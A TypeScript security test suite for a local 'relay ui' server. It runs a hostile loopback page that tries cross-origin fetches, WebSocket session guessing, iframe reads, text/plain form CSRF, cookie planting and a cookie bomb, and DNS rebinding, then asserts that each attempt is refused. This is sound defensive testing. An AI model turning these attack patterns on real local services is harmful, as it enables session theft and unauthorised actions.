// Attacks on `relay ui`'s credentials, built for real: the real `relay ui` process, a hostile web
// server on another loopback port whose page is loaded in real chromium next to the user's
// authenticated page, DNS rebinding through chromium's resolver, replayed and expired launch
// tokens, requests without Origin, and the launch token looked for in every process's argv.
import { execa } from 'execa';
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCredentials, LAUNCH_TOKEN_TTL_MS } from '../../src/cli/ui-credentials.js';
import { startUiServer } from '../../src/cli/ui-server.js';
import { openStore } from '../../src/engine/store/index.js';
import { createHost } from '../../src/host/index.js';
import type { RelayApi } from '../../src/shared/api.js';
import { CHROMIUM, CHROMIUM_FLAGS, launchBrowser, type TestBrowser } from '../e2e/support/browser.js';
import { until } from '../e2e/support/pages.js';
import { REPO_ROOT } from '../helpers/cli.js';
import { relayProject } from '../helpers/project.js';
import { openSocket } from '../helpers/socket.js';
import { tempDir } from '../helpers/temp.js';
import { httpRequest, launchToken, postTrade, refusalCode, sessionProtocols, startRelayUi, type RelayUiProcess, socketUrl } from '../helpers/ui.js';

// These run in the page, where the DOM exists; the test's tsconfig has no DOM types.
declare const window: { relay: RelayApi; sessionStorage: { getItem(key: string): string | null } };
declare const document: { querySelector(selector: string): unknown };

const PATH = process.env.PATH ?? '/usr/bin:/bin';

/** What the hostile server saw: every request's method, path and headers. */
interface Seen {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
}

/** The hostile page: it tries every way into the server at `target` and reports what it got. */
function hostilePage(target: string, port: number, victimRoot: string): string {
  const script = `
const target = ${JSON.stringify(target)};
const victim = ${JSON.stringify(victimRoot)};
const results = {};
async function attempt(name, run) {
  try { results[name] = await run(); } catch (error) { results[name] = 'error: ' + (error && error.message); }
}
function socket(url, protocols) {
  return new Promise((resolve) => {
    let ws;
    try { ws = new WebSocket(url, protocols); } catch (error) { resolve('error: ' + error.message); return; }
    ws.onopen = () => {
      ws.send(JSON.stringify({ id: 1, channel: 'registerProject', input: { root: victim } }));
      ws.onmessage = (message) => resolve('opened: ' + message.data);
    };
    ws.onerror = () => resolve('refused');
    ws.onclose = () => resolve('refused');
  });
}
(async () => {
  await attempt('tradeCors', async () => { const r = await fetch(target + '/api/session', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ launchToken: 'x'.repeat(43) }) }); return 'read ' + r.status + ' ' + (await r.text()); });
  await attempt('tradeNoCors', async () => { const r = await fetch(target + '/api/session', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ launchToken: 'x'.repeat(43) }) }); return 'type ' + r.type; });
  await attempt('checkCors', async () => { const r = await fetch(target + '/api/session/hello', { method: 'POST', credentials: 'include', body: '{}' }); return 'read ' + r.status; });
  await attempt('readPage', async () => { const r = await fetch(target + '/', { credentials: 'include' }); return 'read ' + r.status; });
  await attempt('socketNoSession', () => socket(target.replace('http://', 'ws://') + '/ws', ['relay-desk.v1']));
  await attempt('socketGuessedSession', () => socket(target.replace('http://', 'ws://') + '/ws', ['relay-desk.v1', 'relay-desk.session.${'A'.repeat(43)}']));
  await attempt('socketLocalhost', () => socket('ws://localhost:${port}/ws', ['relay-desk.v1']));
  await attempt('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = target + '/';
    frame.onload = () => { try { resolve('readable: ' + frame.contentWindow.sessionStorage.getItem('relay-desk.session')); } catch (error) { resolve('blocked: ' + error.name); } };
    document.body.append(frame);
  }));
  // A classic form POST (a navigation: no CORS at all) into a hidden frame.
  await attempt('form', () => new Promise((resolve) => {
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    document.body.append(sink);
    // Set after the blank frame's own load: this fires when the server's answer arrives.
    sink.onload = () => resolve('answered');
    const form = document.createElement('form');
    form.method = 'POST'; form.action = target + '/api/session'; form.enctype = 'text/plain'; form.target = 'sink';
    const field = document.createElement('input'); field.name = '{"launchToken":"' + 'x'.repeat(43) + '","y":"'; field.value = '"}';
    form.append(field); document.body.append(form); form.submit();
  }));
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
})();
`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>A page on another local port</title></head><body><h1>Nothing to see</h1><script>${script}</script></body></html>`;
}

/** Starts the hostile server: it serves the page, plants a cookie, and records everything it receives. */
async function startHostileServer(page: () => string): Promise<{ server: Server; origin: string; seen: Seen[]; report: Promise<Record<string, string>> }> {
  const seen: Seen[] = [];
  let resolveReport!: (value: Record<string, string>) => void;
  const report = new Promise<Record<string, string>>((resolve) => (resolveReport = resolve));
  const server = createServer((request, response) => {
    seen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers });
    if (request.url === '/report') {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        resolveReport(JSON.parse(body) as Record<string, string>);
        response.end('ok');
      });
      return;
    }
    // Cookies ignore ports: one set here is sent to every 127.0.0.1 server, ours included.
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Set-Cookie': 'planted=by-the-hostile-server; Path=/' });
    response.end(page());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, report };
}

describe('relay ui against a hostile local web page', () => {
  let ui: RelayUiProcess;
  let browser: TestBrowser;
  let dataDir: string;

  beforeAll(async () => {
    dataDir = tempDir('relay-attack-data-');
    ui = await startRelayUi({ args: ['--data-dir', dataDir], env: { PATH, HOME: tempDir('relay-attack-home-') }, cwd: tempDir() });
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await ui?.stop();
  });

  it('gives the hostile page nothing and runs nothing, and no credential it can get works', async () => {
    // The user's page, authenticated with the link relay ui printed.
    const userPage = await browser.newPage();
    const ourResponses: Array<Record<string, string>> = [];
    userPage.on('response', (response) => {
      if (response.url().startsWith(ui.origin)) ourResponses.push(response.headers());
    });
    await userPage.goto(ui.link);
    await userPage.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    expect(await userPage.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
    const session = (await userPage.evaluate(() => window.sessionStorage.getItem('relay-desk.session')))!;
    expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/);

    // Worst case for the cookie: pretend an older build had put the real session in a cookie.
    // Browsers then send it to every local port — the hostile server's included.
    await browser.context.addCookies([{ name: `relay_ui_${ui.port}`, value: session, domain: '127.0.0.1', path: '/' }]);

    const victim = relayProject({ projectId: 'hostile-target' });
    const hostile = await startHostileServer(() => hostilePage(ui.origin, ui.port, victim));
    try {
      const attackPage = await browser.newPage();
      await attackPage.goto(`${hostile.origin}/`);
      const results = await hostile.report;

      // Nothing readable, no socket opened, the page cannot be framed or read.
      expect(results.tradeCors).toMatch(/^error: /);
      expect(results.checkCors).toMatch(/^error: /);
      expect(results.readPage).toMatch(/^error: /);
      expect(results.tradeNoCors).toBe('type opaque');
      expect(results.socketNoSession).toBe('refused');
      expect(results.socketGuessedSession).toBe('refused');
      expect(results.socketLocalhost).toBe('refused');
      expect(results.frame).not.toMatch(/^readable/);
      expect(results.form).toBe('answered');

      // Ran nothing: the project the hostile page tried to register is not there...
      const listed = await userPage.evaluate(() => window.relay.listProjects({}));

      expect(listed).toEqual({ ok: true, value: [] });
      expect(readFileSync(path.join(dataDir, 'projects.json'), 'utf8')).not.toContain('hostile-target');
      // ...while the same call from the user's page does register a project: the side effect is real.
      const control = relayProject({ projectId: 'control-target' });
      expect(await userPage.evaluate((root) => window.relay.registerProject({ root }), control)).toMatchObject({ ok: true, value: { projectId: 'control-target' } });
      await until('projects.json to list the control project', () => (readFileSync(path.join(dataDir, 'projects.json'), 'utf8').includes('control-target') ? true : undefined));

      // Every credential-looking thing the hostile server received, replayed against our server: refused.
      const cookies = hostile.seen.map((s) => s.headers.cookie).filter((c): c is string => typeof c === 'string');
      expect(cookies.length).toBeGreaterThan(0);
      expect(cookies.some((c) => c.includes(session))).toBe(true);
      for (const cookie of new Set(cookies)) {
        const upgrade = openSocket(socketUrl(ui.origin), { origin: ui.origin, headers: { cookie }, protocols: ['relay-desk.v1'] });
        await expect(upgrade.opened).rejects.toMatchObject({ status: 401, code: 'SESSION_REQUIRED' });
      }
      // The launch link never reached it (the fragment is never sent; we send no Referer).
      const everything = JSON.stringify(hostile.seen);
      expect(everything).not.toContain(launchToken(ui.link));
      // Our server never set a cookie of its own.
      expect(ourResponses.length).toBeGreaterThan(0);
      expect(ourResponses.filter((h) => 'set-cookie' in h)).toEqual([]);
      await attackPage.close();
      await userPage.close();
    } finally {
      await browser.context.clearCookies();
      // The browser keeps its connections to the hostile server alive: cut them, then close.
      hostile.server.closeAllConnections();
      await new Promise<void>((resolve) => hostile.server.close(() => resolve()));
    }
  });

  it('refuses the used launch link, requests without Origin, and another Host name (DNS rebinding) — with the codes', async () => {
    const used = await postTrade(ui.origin, launchToken(ui.link));
    expect([used.status, refusalCode(used)]).toEqual([401, 'LAUNCH_TOKEN_USED']);
    const unknown = await postTrade(ui.origin, 'Z'.repeat(43));
    expect([unknown.status, refusalCode(unknown)]).toEqual([401, 'LAUNCH_TOKEN_UNKNOWN']);
    const noOrigin = await postTrade(ui.origin, 'Z'.repeat(43), { origin: null });
    expect([noOrigin.status, refusalCode(noOrigin)]).toEqual([403, 'ORIGIN_REQUIRED']);

    // A session of the user's own, presented the wrong ways.
    const page = await browser.newPage();
    const link = await ui.newLink();
    await page.goto(link);
    await page.waitForFunction(() => window.sessionStorage.getItem('relay-desk.session') !== null);
    const session = (await page.evaluate(() => window.sessionStorage.getItem('relay-desk.session')))!;
    await page.close();
    const ws = socketUrl(ui.origin);
    await expect(openSocket(ws, { protocols: sessionProtocols(session) }).opened).rejects.toMatchObject({ status: 403, code: 'ORIGIN_REQUIRED' });
    await expect(openSocket(ws, { origin: ui.origin, protocols: sessionProtocols(session), headers: { host: `rebind.test:${ui.port}` } }).opened).rejects.toMatchObject({ status: 403, code: 'HOST_REFUSED' });
    for (const request of [
      { path: '/', method: 'GET' },
      { path: '/api/session', method: 'POST', body: JSON.stringify({ launchToken: 'Z'.repeat(43) }) },
      { path: '/api/session/hello', method: 'POST', body: '' },
    ]) {
      const rebound = await httpRequest(ui.origin, { ...request, headers: { host: `rebind.test:${ui.port}`, origin: `http://rebind.test:${ui.port}`, authorization: `Bearer ${session}`, 'content-type': 'application/json' } });
      expect([rebound.status, refusalCode(rebound)], request.path).toEqual([403, 'HOST_REFUSED']);
    }
    const hello = await httpRequest(ui.origin, { path: '/api/session/hello', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    expect([hello.status, refusalCode(hello)]).toEqual([403, 'ORIGIN_REQUIRED']);
    // The same session, presented properly, works: the refusals above are about how, not what.
    const good = openSocket(ws, { origin: ui.origin, protocols: sessionProtocols(session) });
    await good.opened;
    good.ws.close();
  });

  it('a page on another port of its address cannot lock the user out with cookies: the full jar (180 × 4 KB) is accepted, never read, and cleared by the page', async () => {
    // Any local program can read the address in /proc/net/tcp and serve a page on another port of it; that page sets the cookies.
    const { hostname } = new URL(ui.origin);
    const jar = Array.from({ length: 180 }, (_, i) => ({ name: `bomb${i}`, value: 'x'.repeat(4000), domain: hostname, path: '/' }));
    await browser.context.addCookies(jar);
    const planted = (await browser.context.cookies(ui.origin)).length;
    expect(planted).toBeGreaterThan(100);
    const page = await browser.newPage();
    const statuses: number[] = [];
    page.on('response', (response) => void (response.url().startsWith(ui.origin) && statuses.push(response.status())));
    await page.goto(await ui.newLink());
    await page.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    expect(await page.evaluate(() => window.relay.listProjects({}))).toMatchObject({ ok: true });
    expect(statuses.filter((status) => status === 431)).toEqual([]);
    // The page cleared them (Clear-Site-Data), so later requests carry none.
    expect(await browser.context.cookies(ui.origin)).toEqual([]);
    await page.close();
  });

  it('refuses a page reached through DNS rebinding in a real browser', async () => {
    // rebind.test resolves to the server's loopback address, as an attacker's domain would after rebinding.
    const rebinding = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: [...CHROMIUM_FLAGS, `--host-resolver-rules=MAP rebind.test ${new URL(ui.origin).hostname}`] });
    try {
      const page = await rebinding.newPage();
      const response = await page.goto(`http://rebind.test:${ui.port}/`);
      expect(response?.status()).toBe(403);
      expect(JSON.parse(await response!.text())).toMatchObject({ error: { code: 'HOST_REFUSED' } });
    } finally {
      await rebinding.close();
    }
  });
});

describe('launch tokens that are no longer good', () => {
  it('refuses one left unused for two minutes with LAUNCH_TOKEN_EXPIRED, and the page says so (a real server on a clock the test moves)', async () => {
    let clock = Date.now();
    const store = openStore({ file: path.join(tempDir(), 'relay-desk.db') });
    const host = createHost({ store });
    const server = await startUiServer({ host, rendererDir: path.join(REPO_ROOT, 'out/renderer'), credentials: createCredentials({ now: () => clock }) });
    const browser = await launchBrowser();
    try {
      const link = server.launchLink();
      clock += LAUNCH_TOKEN_TTL_MS;
      const expired = await postTrade(server.origin, launchToken(link.url));
      expect([expired.status, refusalCode(expired)]).toEqual([401, 'LAUNCH_TOKEN_EXPIRED']);

      const late = server.launchLink();
      clock += LAUNCH_TOKEN_TTL_MS;
      const page = await browser.newPage();
      await page.goto(late.url);
      await page.getByRole('alert').filter({ hasText: 'This link has expired' }).waitFor({ state: 'visible', timeout: 20_000 });
      expect(await page.evaluate(() => window.sessionStorage.getItem('relay-desk.session'))).toBeNull();
    } finally {
      await browser.close();
      await server.close();
      await host.close();
      store.close();
    }
  });
});

describe.runIf(process.platform === 'linux')('opening the browser', () => {
  it('hands the browser a private file, never the token on any command line, and removes the file once the link is used', async () => {
    const dir = tempDir('relay-open-');
    const record = path.join(dir, 'record');
    const fakeBrowser = path.join(dir, 'fake-browser');
    // Run by xdg-open as $BROWSER with the file to open: it records what it was given, and looks
    // for the file's token in the argv of every process on the machine while it runs.
    writeFileSync(
      fakeBrowser,
      `#!/bin/sh
file="$1"
grep -o 'token=[A-Za-z0-9_-]*' "$file" | head -1 | cut -d= -f2 | tr -d '\\n' > "$RECORD.token"
{
  echo "argc: $#"
  echo "argv: $*"
  echo "file-mode: $(stat -c %a "$file")"
  echo "dir-mode: $(stat -c %a "$(dirname "$file")")"
  echo "token-length: $(wc -c < "$RECORD.token")"
  echo "processes-with-token: $(grep -l -a -F -f "$RECORD.token" /proc/[0-9]*/cmdline 2>/dev/null | wc -l)"
  echo "url: $(grep -o 'http://127\\.[0-9.]*:[0-9]*/#token=[A-Za-z0-9_-]*' "$file" | head -1)"
} > "$RECORD.tmp"
mv "$RECORD.tmp" "$RECORD"
`,
    );
    chmodSync(fakeBrowser, 0o755);
    const child = execa(process.execPath, [path.join(REPO_ROOT, 'dist/cli/relay.js'), 'ui', '--data-dir', tempDir('relay-open-data-')], {
      // RECORD reaches the fake browser only because it is named: the opener gets an allow-list environment.
      env: { PATH, HOME: tempDir('relay-open-home-'), BROWSER: fakeBrowser, RECORD: record, RELAY_PASS_ENV: 'RECORD' },
      extendEnv: false,
      reject: false,
      stdin: 'ignore',
    });
    try {
      const seen = await until('the browser to be started', () => (existsSync(record) ? readFileSync(record, 'utf8') : undefined));
      const field = (name: string): string => new RegExp(`^${name}: (.*)$`, 'm').exec(seen)?.[1] ?? '';
      expect(field('argc')).toBe('1');
      const file = field('argv');
      expect(file).toMatch(/relay-desk-open-[^/]+\/open-relay-desk\.html$/);
      expect(field('argv')).not.toContain('token');
      expect(field('file-mode')).toBe('600');
      expect(field('dir-mode')).toBe('700');
      expect(Number(field('token-length'))).toBe(43);
      expect(field('processes-with-token')).toBe('0');
      // The file leads to a live link; once a page has used it, the file is gone.
      const url = field('url');
      expect(launchToken(url)).toHaveLength(43);
      expect((await postTrade(new URL(url).origin, launchToken(url))).status).toBe(200);
      await until('the launch file to be removed', () => (existsSync(path.dirname(file)) ? undefined : true));
    } finally {
      child.kill('SIGTERM');
      await child;
    }
  });
});
